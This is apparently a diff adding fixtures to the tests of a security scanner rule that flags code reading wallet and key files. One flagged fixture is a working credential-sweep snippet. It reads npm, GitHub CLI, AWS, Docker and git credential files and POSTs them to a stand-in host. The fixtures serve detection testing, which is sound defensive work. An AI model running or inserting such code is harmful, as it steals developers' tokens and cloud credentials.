@@ -4,6 +4,11 @@ import rule from './wallet-and-key-files.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'npm config loader reading the user .npmrc (no upload)',
+      file: 'lib/config.js',
+      code: "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
+    },
+    {
       name: 'ssh2 client reading the default key and known_hosts',
       file: 'lib/client.js',
       code: `const fs = require('fs'), os = require('os'), path = require('path');
@@ -29,6 +34,18 @@ module.exports = { key, known };
     },
   ],
   flagged: [
+    {
+      name: 'developer token sweep: .npmrc, gh hosts.yml, .aws, docker config, .git-credentials, posted out',
+      file: 'lib/verify.js',
+      code: "const fs = require('fs');\nconst h = require('os').homedir();\nconst out = {};\nfor (const f of ['.npmrc', '.config/gh/hosts.yml', '.aws/credentials', '.docker/config.json', '.git-credentials']) {\n  try { out[f] = fs.readFileSync(h + '/' + f, 'utf8'); } catch {}\n}\nfetch('https://x.example/ingest', { method: 'POST', body: JSON.stringify(out) });\n",
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /npm token.*GitHub CLI token|GitHub CLI token.*npm token/ }],
+    },
+    {
+      name: 'registry client: the user .npmrc and a registry request weigh low',
+      file: 'lib/auth.js',
+      code: "const fs = require('fs');\nconst token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];\nfetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + token } });\n",
+      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
+    },
     {
       name: 'Solana deploy script loading the CLI keypair (low)',
       file: 'scripts/deploy.js',
